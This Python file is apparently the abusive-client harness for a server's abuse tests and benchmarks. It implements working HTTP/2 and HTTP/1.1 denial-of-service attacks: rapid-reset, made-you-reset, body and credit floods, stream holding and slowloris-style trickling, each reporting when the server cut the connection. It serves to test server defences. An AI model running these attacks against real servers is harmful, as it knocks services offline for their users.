#!/usr/bin/env python3
# h2attack.py -- the abusive clients of t/110-abuse.t and scripts/bench-abuse:
# HTTP/2 over cleartext (prior knowledge) and HTTP/1.1 spoken over raw
# sockets, with a frame encoder just big enough to misbehave in the ways an
# attacker would.  Each run prints one JSON line saying what it sent before
# the server closed the connection, and when.
#
#   h2attack.py ATTACK --port P [--host H] [--bind ADDR] [--duration S] [--connections N] [--total S]
#
# ATTACK is one of:
#   body-flood    100 POST streams, then DATA round-robin up to --body bytes each (4 MiB)
#   hold          100 POST streams that never send their body, kept alive by a PING every 0.5 s
#   rapid-reset   HEADERS + RST_STREAM(CANCEL) pairs, --count of them (3000)
#   made-you-reset  HEADERS (complete GET) + WINDOW_UPDATE of 0 on the same stream, which
#                 makes the server reset the stream after the request reached it
#   slow-h1       an HTTP/1.1 request line and headers, one byte every --interval s
#   slow-h1-body  complete HTTP/1.1 headers announcing a body, then one byte every --interval s
#   slow-h2       a POST stream whose body arrives one byte per DATA frame every --interval s
#
# --bind picks the source address (any 127.x.y.z works on Linux), so an
# attacker and a legitimate client on one machine count as different peers.
# With --connections N the attack runs N times in a row, each on a new
# connection (--total S: no new one after S seconds); "no_reply" counts
# connections closed before the server sent a byte (refused at accept, or
# cut before any answer).
import argparse
import errno
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    b = s.encode()
    return hpack_int(len(b), 7) + b


def literal(index, value):
    # "Literal Header Field without Indexing -- Indexed Name": nothing enters the dynamic table.
    return hpack_int(index, 4) + hpack_str(value)


def request_block(method, path, authority, content_type=None):
    out = bytes([0x82 if method == "GET" else 0x83, 0x86])  # :method GET/POST, :scheme http (static table)
    out += literal(4, path) + literal(1, authority)
    if content_type:
        out += literal(31, content_type)
    return out


class Closed(Exception):
    pass


class Conn:
    """One TCP connection and what came back on it."""

    def __init__(self, args):
        self.args = args
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if args.bind:
            self.sock.bind((args.bind, 0))
        self.sock.settimeout(5)
        self.sock.connect((args.host, args.port))
        self.sock.setblocking(False)
        self.start = time.time()
        self.received = 0
        self.inbuf = b""
        self.out = b""
        self.closed = None  # reason, once closed
        self.sent_bytes = 0
        self.conn_window = 65535
        self.windows = {}
        self.goaway = False
        self.resets = 0
        self.responses = 0

    def queue(self, data):
        self.out += data

    def pump(self, wait=0.0):
        """Writes what it can, reads what there is; raises Closed when the server is gone."""
        if self.closed:
            raise Closed(self.closed)
        r, w, _ = select.select([self.sock], [self.sock] if self.out else [], [], wait)
        if w:
            try:
                n = self.sock.send(self.out[:262144])
                self.sent_bytes += n
                self.out = self.out[n:]
            except BlockingIOError:
                pass
            except OSError as e:
                self.close("send: " + errno.errorcode.get(e.errno, str(e.errno)))
        if r:
            try:
                data = self.sock.recv(262144)
            except BlockingIOError:
                data = None
            except OSError as e:
                self.close("recv: " + errno.errorcode.get(e.errno, str(e.errno)))
            if data == b"":
                self.close("eof")
            elif data:
                self.received += len(data)
                self.inbuf += data
                self.parse()

    def idle(self, secs):
        """Sends what is queued, then only reads until secs have passed."""
        end = time.time() + secs
        self.pump(0)
        while time.time() < end:
            if self.closed:
                raise Closed(self.closed)
            r, _, _ = select.select([self.sock], [], [], max(0.0, end - time.time()))
            if r:
                self.pump(0)

    def close(self, why):
        if not self.closed:
            self.closed = why
            self.elapsed = time.time() - self.start
        raise Closed(why)

    def parse(self):
        pass

    def flush(self, deadline):
        while self.out and time.time() < deadline:
            self.pump(0.05)


class H2(Conn):
    def __init__(self, args):
        super().__init__(args)
        self.queue(PREFACE + frame(SETTINGS, 0, 0))

    def parse(self):
        while len(self.inbuf) >= 9:
            hi, lo, ftype, flags, stream = struct.unpack(">BHBBI", self.inbuf[:9])
            n = (hi << 16) | lo
            if len(self.inbuf) < 9 + n:
                return
            payload = self.inbuf[9:9 + n]
            self.inbuf = self.inbuf[9 + n:]
            stream &= 0x7FFFFFFF
            if ftype == SETTINGS and not flags & ACK:
                self.queue(frame(SETTINGS, ACK, 0))
            elif ftype == WINDOW_UPDATE and n == 4:
                inc = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                if stream == 0:
                    self.conn_window += inc
                else:
                    self.windows[stream] = self.windows.get(stream, 16777216) + inc
            elif ftype == GOAWAY:
                self.goaway = True
            elif ftype == RST_STREAM:
                self.resets += 1
            elif ftype == HEADERS:
                self.responses += 1
            self.on_frame(ftype, flags, stream, payload)

    def on_frame(self, ftype, flags, stream, payload):
        """Each frame from the server, after the above: for clients that keep more of what came back."""

    def authority(self):
        return "%s:%d" % (self.args.host, self.args.port)


def run_body_flood(c, a):
    streams = [1 + 2 * i for i in range(a.streams)]
    for s in streams:
        c.queue(frame(HEADERS, END_HEADERS, s, request_block("POST", "/api/mcp", c.authority(), "application/json")))
        c.windows[s] = 16777216
    left = {s: a.body for s in streams}
    chunk = b"x" * 16384
    deadline = c.start + a.duration
    while time.time() < deadline and any(left.values()):
        c.pump(0.01)
        for s in streams:
            if len(c.out) > 1 << 20:
                break
            n = min(16384, left[s], c.conn_window, c.windows[s])
            if n <= 0:
                continue
            c.queue(frame(DATA, 0, s, chunk[:n]))
            c.conn_window -= n
            c.windows[s] -= n
            left[s] -= n
        c.stat = {"body_bytes_queued": a.streams * a.body - sum(left.values())}
    while time.time() < deadline:
        c.idle(0.1)


def run_credit_flood(c, a):
    """Body on open POST streams, each 16 KiB of it behind 8 tiny GETs: buys body room if a request is credited a flat
    allowance rather than what its headers cost."""
    streams = [1 + 2 * i for i in range(a.streams)]
    for s in streams:
        c.queue(frame(HEADERS, END_HEADERS, s, request_block("POST", "/api/mcp", c.authority(), "application/json")))
        c.windows[s] = 16777216
    left = {s: a.body for s in streams}
    nxt = 1 + 2 * a.streams
    get_block = request_block("GET", "/healthz", c.authority())
    chunk = b"x" * 16384
    deadline = c.start + a.duration
    sent = 0
    while time.time() < deadline and any(left.values()):
        c.pump(0.005)
        if len(c.out) > 64 * 1024:
            continue
        time.sleep(0.02)
        batch = b""
        for _ in range(8):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, nxt, get_block)
            nxt += 2
        budget = 8 * 16384 - 2048
        for s in streams:
            n = min(16384, left[s], c.conn_window, c.windows[s], budget)
            if n <= 0:
                continue
            batch += frame(DATA, 0, s, chunk[:n])
            c.conn_window -= n
            c.windows[s] -= n
            left[s] -= n
            budget -= n
            sent += n
        c.queue(batch)
        c.stat = {"body_bytes_queued": sent}
    while time.time() < deadline:
        c.idle(0.1)


def run_hold(c, a):
    for i in range(a.streams):
        c.queue(frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block("POST", "/api/mcp", c.authority(), "application/json")))
    deadline = c.start + a.duration
    pings = 0
    next_ping = time.time()
    while time.time() < deadline:
        if time.time() >= next_ping:
            c.queue(frame(PING, 0, 0, struct.pack(">Q", pings)))
            pings += 1
            c.stat = {"pings": pings}
            next_ping += 0.5
        c.idle(0.05)


def run_rapid_reset(c, a):
    block = request_block("GET", "/healthz", c.authority())
    sent = 0
    deadline = c.start + a.duration
    while sent < a.count and time.time() < deadline:
        batch = b""
        for _ in range(min(100, a.count - sent)):
            s = 1 + 2 * sent
            batch += frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
            sent += 1
        c.queue(batch)
        c.stat = {"pairs_queued": sent}
        while len(c.out) > 65536 and time.time() < deadline:
            c.pump(0.01)
        c.pump(0)
    while time.time() < deadline:
        c.idle(0.1)


def run_made_you_reset(c, a):
    block = request_block("GET", "/healthz", c.authority())
    sent = 0
    deadline = c.start + a.duration
    while sent < a.count and time.time() < deadline:
        batch = b""
        for _ in range(min(100, a.count - sent)):
            s = 1 + 2 * sent
            batch += frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0))
            sent += 1
        c.queue(batch)
        c.stat = {"pairs_queued": sent}
        while len(c.out) > 65536 and time.time() < deadline:
            c.pump(0.01)
        c.pump(0)
    while time.time() < deadline:
        c.idle(0.1)


def trickle(c, a, data):
    deadline = c.start + a.duration
    i = 0
    while time.time() < deadline:
        if i < len(data):
            c.queue(data[i:i + 1])
            i += 1
            c.stat = {"bytes_trickled": i}
        c.idle(a.interval)


def run_slow_h1(c, a):
    head = "POST /api/mcp HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/json\r\nX-Pad: %s\r\n" % (
        a.host, a.port, "a" * 4096)
    trickle(c, a, head.encode())


def run_slow_h1_body(c, a):
    head = "POST /api/mcp HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n" % (
        a.host, a.port)
    c.queue(head.encode())
    trickle(c, a, b"{" + b" " * 99998 + b"}")


def run_slow_h2(c, a):
    c.queue(frame(HEADERS, END_HEADERS, 1, request_block("POST", "/api/mcp", c.authority(), "application/json")))
    deadline = c.start + a.duration
    n = 0
    while time.time() < deadline:
        c.queue(frame(DATA, 0, 1, b" "))
        n += 1
        c.stat = {"data_frames": n}
        c.idle(a.interval)


ATTACKS = {
    "body-flood": (H2, run_body_flood),
    "credit-flood": (H2, run_credit_flood),
    "hold": (H2, run_hold),
    "rapid-reset": (H2, run_rapid_reset),
    "made-you-reset": (H2, run_made_you_reset),
    "slow-h1": (Conn, run_slow_h1),
    "slow-h1-body": (Conn, run_slow_h1_body),
    "slow-h2": (H2, run_slow_h2),
}


def one(a):
    cls, fn = ATTACKS[a.attack]
    try:
        c = cls(a)
    except OSError as e:
        return {"closed": "connect: " + str(e), "seconds": 0, "no_reply": True}
    c.stat = {}
    try:
        fn(c, a)
    except Closed:
        pass
    r = {"closed": c.closed, "seconds": round(c.elapsed if c.closed else time.time() - c.start, 3),
         "sent_bytes": c.sent_bytes, "received_bytes": c.received, "no_reply": bool(c.closed) and c.received == 0}
    if isinstance(c, H2):
        r.update({"goaway": c.goaway, "server_resets": c.resets, "response_headers": c.responses})
    r.update(c.stat)
    try:
        c.sock.close()
    except OSError:
        pass
    return r


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--bind", default=None)
    p.add_argument("--duration", type=float, default=5.0, help="give up on one connection after this many seconds")
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--total", type=float, default=0, help="open no new connection after this many seconds (0: no limit)")
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--body", type=int, default=4 << 20)
    p.add_argument("--count", type=int, default=3000)
    p.add_argument("--interval", type=float, default=0.5)
    a = p.parse_args()
    runs = []
    end = time.time() + a.total
    while len(runs) < a.connections and (a.total <= 0 or time.time() < end):
        runs.append(one(a))
        if runs[-1]["no_reply"] and runs[-1]["seconds"] < 0.01:
            time.sleep(0.01)  # refused at accept: do not spin
    out = {"attack": a.attack, "connections": len(runs), "no_reply": sum(1 for r in runs if r["no_reply"]),
           "closed": sum(1 for r in runs if r["closed"]), "runs": runs}
    print(json.dumps(out))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
